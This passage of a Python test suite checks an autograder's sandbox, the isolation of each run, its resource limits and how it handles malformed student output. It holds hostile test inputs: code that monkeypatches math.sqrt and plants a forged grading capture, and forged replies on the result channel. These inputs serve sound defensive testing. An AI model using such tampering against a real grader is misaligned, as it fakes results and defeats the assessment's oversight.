    for path, content in graded["home_before"].items():
        assert path.read_bytes() == content, f"{path} was changed"
    con = sqlite3.connect(root / "course" / "gradebook.db")
    assert con.execute("SELECT COUNT(*) FROM grade WHERE auto_score IS NOT NULL").fetchone()[0] > 0
    assert graded["listener"].received == []  # no connection reached the host
    assert not _marker_processes()  # nothing an attack started is alive
    assert not Path("/tmp/pwned").exists()
    site = next(p for p in sys.path if p.endswith("site-packages"))
    assert set(os.listdir(site)) == graded["venv_before"]  # no .pth planted in the environment
    # the host disk: fill_disk wrote until its 1 GiB tmpfs was full, flood_output printed 768 MiB; none of it
    # landed on a disk (the free space of a shared machine moves with other work: look for the files instead)
    assert not graded["big_files"], graded["big_files"]


@pytest.mark.slow
@pytest.mark.parametrize("run", RUNS)
def test_feedback_says_why(run, request):
    graded = request.getfixturevalue(run)
    root = graded["root"]
    pages = {p.parts[-3]: p.read_text() for p in (root / "course" / "feedback").glob(f"*/{ASSIGNMENT}/*.html")}
    results = {
        p.parent.name: json.loads(p.read_text())
        for p in (root / "course" / ".autograder" / "results" / ASSIGNMENT).glob("*/*.json")
    }

    def said(student):
        r = results[student]
        return " ".join(
            [r.get("fatal") or ""]
            + list(r.get("answer_errors", {}).values())
            + [c["message"] + " " + " ".join(k["message"] for k in c["checks"]) for c in r["cells"].values()]
        )

    assert "gd_lib.optim.adam.Adam" in said("adam_gd_lib") and "asks you to write" in said("adam_gd_lib")
    assert "torch.optim.adam.Adam" in said("adam_torch")
    assert "pytorch_optimizer" in said("other_package")
    assert "symbolic link" in said("symlink_solutions") and "hard link" in said("hardlink_solutions")
    assert "not a notebook" in said("not_json") and "UTF-8" in said("not_utf8")
    assert "result channel" in said("forge_replies") and "result channel" in said("deep_reply")
    assert "could not be read" in said("undecodable_value")
    assert "did not finish within" in said("infinite_loop") or "timed out" in said("infinite_loop")
    assert "SIGSEGV" in said("crash")
    assert (
        "No space left on device" in results["fill_disk"]["answer_errors"].get("bias_correction", "")
        or "No space left" in pages["fill_disk"]
    )
    assert set(pages) >= set(CASES) - {"symlink_classmate"} - {s for s, c in CASES.items() if c[2]}


# --- the sandbox itself ----------------------------------------------------------------------------------

from autograder.sandbox import Limits, isolation_mode, run_cells  # noqa: E402
from autograder.zygote import SANDBOX_UID_BASE, Zygote  # noqa: E402

WALK = """
import os
from autograder.checks import check
files, dirs = [], 0
for top in sorted(os.listdir("/")):
    if top in ("proc", "sys", "dev"):
        continue
    for folder, subdirs, names in os.walk("/" + top):
        dirs += 1
        files += [os.path.join(folder, n) for n in names]
check("files", files)
status = dict(line.split(":", 1) for line in open("/proc/self/status").read().splitlines())
check("identity", [os.getuid(), os.getgid(), status["CapEff"].strip(), status["CapPrm"].strip(),
                   status["CapBnd"].strip(), status["NoNewPrivs"].strip(), status["Seccomp"].strip()])
check("procs", sorted(int(p) for p in os.listdir("/proc") if p.isdigit()))
check("dev", sorted(os.listdir("/dev")))
check("cwd", os.getcwd())
"""


def _values(run) -> dict:
    from autograder.checks import _decode_array  # noqa: F401 - the values here are plain ones

    out = {}
    for cap in run.cells[0].captures:
        v = cap["value"]
        out[cap["name"]] = [i.get("value") for i in v["items"]] if "items" in v else v.get("value")
    return out


needs_sandbox = pytest.mark.skipif(isolation_mode()[0] != "bwrap", reason=f"no sandbox here: {isolation_mode()[1]}")


@needs_sandbox
def test_nothing_of_the_course_is_visible_in_the_sandbox(tmp_path):
    """Walk every visible path from inside the sandbox: no file of the repository but the files of its
    packages (gd_lib, autograder), nothing of the course, an unprivileged identity without capabilities."""
    with Zygote(preload=("numpy", "torch", "gd_lib", "gd_lib.optim"), mode="student", sandbox=True) as zygote:
        run = run_cells([(0, WALK)], mode="student", limits=Limits(), zygote=zygote)
    assert run.cells[0].status == "ok", run.output_tail
    got = _values(run)
    repo = str(ROOT)
    inside_repo = [f for f in got["files"] if f.startswith(repo + "/")]
    allowed = (repo + "/gd_lib/", repo + "/autograder/", repo + "/.venv/")
    assert inside_repo and all(f.startswith(allowed) for f in inside_repo), [
        f for f in inside_repo if not f.startswith(allowed)
    ][:20]
    assert not any("/solutions/" in f or "/.git/" in f or "/course/" in f or f.endswith(".ipynb") for f in got["files"])
    for name in ("pytorch_optimizer", "prodigyopt", "schedulefree", "nbgrader", "jupyterlab"):
        assert not any(f"/site-packages/{name}/" in f for f in got["files"]), name
    uid, gid, cap_eff, cap_prm, cap_bnd, no_new_privs, seccomp = got["identity"]
    if os.geteuid() == 0:
        assert uid >= SANDBOX_UID_BASE and gid == uid
    assert cap_eff == cap_prm == cap_bnd == "0000000000000000" and no_new_privs == "1" and seccomp == "2"
    assert len(got["procs"]) <= 3  # the sandbox's first process, its holder and this one
    assert set(got["dev"]) == {"null", "zero", "full", "random", "urandom", "fd", "stdin", "stdout", "stderr", "shm"}
    assert got["cwd"] == "/tmp/work"


@needs_sandbox
def test_each_run_starts_from_the_zygote_state_not_the_previous_run(tmp_path):
    tamper = (
        "import math, autograder.checks as checks\nmath.sqrt = lambda *a, **k: 'patched'\n"
        "checks._captured.append({'name': 'planted', 'value': {'kind': 'int', 'value': 1}})\n"
        "import builtins; builtins.LEFT_BEHIND = True\nopen('/tmp/work/left', 'w').write('x')"
    )
    probe = (
        "import math, builtins, os\nfrom autograder.checks import check\n"
        "check('sqrt', math.sqrt(4.0))\ncheck('left', hasattr(builtins, 'LEFT_BEHIND'))\n"
        "check('file', os.path.exists('/tmp/work/left'))"
    )
    with Zygote(preload=("math", "autograder.checks"), mode="student", sandbox=True) as zygote:
        runs = [run_cells([(0, code)], mode="student", limits=Limits(), zygote=zygote) for code in (tamper, probe)]
    assert [r.cells[0].status for r in runs] == ["ok", "ok"], runs[1].output_tail
    assert _values(runs[1]) == {"sqrt": 2.0, "left": False, "file": False}  # and the planted capture is gone


def test_grading_refuses_without_the_sandbox_unless_asked(monkeypatch):
    import autograder.sandbox as sandbox

    monkeypatch.setattr(sandbox, "isolation_mode", lambda: ("process", "forced by the test"))
    with pytest.raises(sandbox.IsolationUnavailable, match="--allow-reduced-isolation"):
        sandbox.require_isolation(allow_reduced=False)
    assert sandbox.require_isolation(allow_reduced=True) == "process"


def test_reduced_mode_still_has_resource_limits(tmp_path):
    code = (
        "import resource, os\nfrom autograder.checks import check\n"
        "check('nofile', resource.getrlimit(resource.RLIMIT_NOFILE)[0])\n"
        "check('fsize', resource.getrlimit(resource.RLIMIT_FSIZE)[0])\n"
        "check('cwd', os.getcwd())"
    )
    with Zygote(preload=(), mode="student") as zygote:
        run = run_cells(
            [(0, code)],
            mode="student",
            workdir=tmp_path / "work",
            zygote=zygote,
            isolation="process",
            limits=Limits(max_open_files=77, max_file_bytes=12345),
        )
    assert run.isolation == "process" and run.cells[0].status == "ok", run.output_tail
    assert _values(run) == {"nofile": 77, "fsize": 12345, "cwd": str(tmp_path / "work")}


def test_channel_rejects_what_a_student_process_could_write():
    from autograder.sandbox import ChannelViolation, parse_reply

    good = {
        "index": 3,
        "nonce": "abc",
        "ok": True,
        "error": None,
        "captures": [{"name": "n", "value": {"kind": "none"}}],
    }
    assert parse_reply(json.dumps(good).encode(), 3, "abc")["ok"] is True
    bad = [
        b"[" * 10000,  # nested beyond the bound (before parsing)
        b"not json",
        json.dumps([good]).encode(),  # not an object
        json.dumps({**good, "index": 4}).encode(),  # another cell's reply
        json.dumps({**good, "nonce": "guess"}).encode(),  # a forged reply
        json.dumps({**good, "extra": 1}).encode(),  # unknown keys
        json.dumps({**good, "ok": "yes"}).encode(),  # wrong types
        json.dumps({**good, "captures": [{"name": "n", "value": {"kind": "none"}, "rtol": 0}]}).encode(),  # tolerances
        json.dumps({**good, "captures": [{"name": "n" * 1000, "value": {}}]}).encode(),
        json.dumps({**good, "captures": [{"name": "n", "value": {}}] * 2000}).encode(),
    ]
    for line in bad:
        with pytest.raises(ChannelViolation):
            parse_reply(line, 3, "abc")


def test_compare_never_raises_on_malformed_values():
    """Whatever the student's process recorded, a comparison gives a verdict (never an exception)."""
    import torch

    from autograder.checks import compare, encode

    expected = encode(torch.ones(3, 4, dtype=torch.float64))
    junk = [
        None,
        5,
        "x",
        [],
        {},
        {"kind": "tensor"},
        {"kind": "tensor", "dtype": "torch.float64", "shape": [3, 4], "device": "cpu", "data": "!!"},
        {"kind": "tensor", "dtype": "torch.float64", "shape": "x", "device": "cpu", "data": expected["data"]},
        {"kind": "list", "items": {"a": 1}},
        {"kind": "float", "value": [1]},
        {"kind": "int", "value": "7"},
        {"kind": "dict", "items": [1, 2]},
    ]
    for value in junk:
        assert isinstance(compare(value, expected, 1e-6, 1e-8), str)
    assert compare(expected, expected, 0, 0) is None


def test_an_infinite_expected_value_is_matched_exactly():
    """|x - inf| <= atol + rtol * inf holds for every finite x: infinities must be compared exactly."""
    import math

    import numpy as np

    from autograder.checks import compare, encode

    assert compare(encode(np.array([1e300, 2.0])), encode(np.array([np.inf, 2.0])), 1e-6, 1e-8) is not None
    assert compare(encode(np.array([np.inf, -np.inf])), encode(np.array([np.inf, -np.inf])), 1e-6, 1e-8) is None
    assert compare(encode(-np.array([np.inf])), encode(np.array([np.inf])), 1e-6, 1e-8) is not None
    assert compare(encode(1e300), encode(math.inf), 1e-6, 1e-8) is not None
    assert compare(encode(math.inf), encode(math.inf), 1e-6, 1e-8) is None


def test_test_cells_lose_their_expected_values():
    from autograder.transform import student_version

    code = (
        "from autograder.checks import check, reference\n"
        "@reference\ndef naive(x):\n    return secret(x)\n"
        "with reference():\n    final, state = run_library(SGD, p, g)\n"
        "x = student(p)  # comment with run_library\n"
        "check('a', x, final, rtol=1e-3, atol=0, about='one step')\n"
        "check('b', x, lambda: naive(x))\n"
        "check(name='c', value=x, expected=naive(3))\n"
    )
    out = student_version(code)
    for gone in ("naive", "run_library", "final", "secret", "rtol", "comment"):
        assert gone not in out, (gone, out)
    assert "check('a', x)" in out and "check('b', x)" in out and "check(name='c', value=x)" in out
    assert "x = student(p)" in out
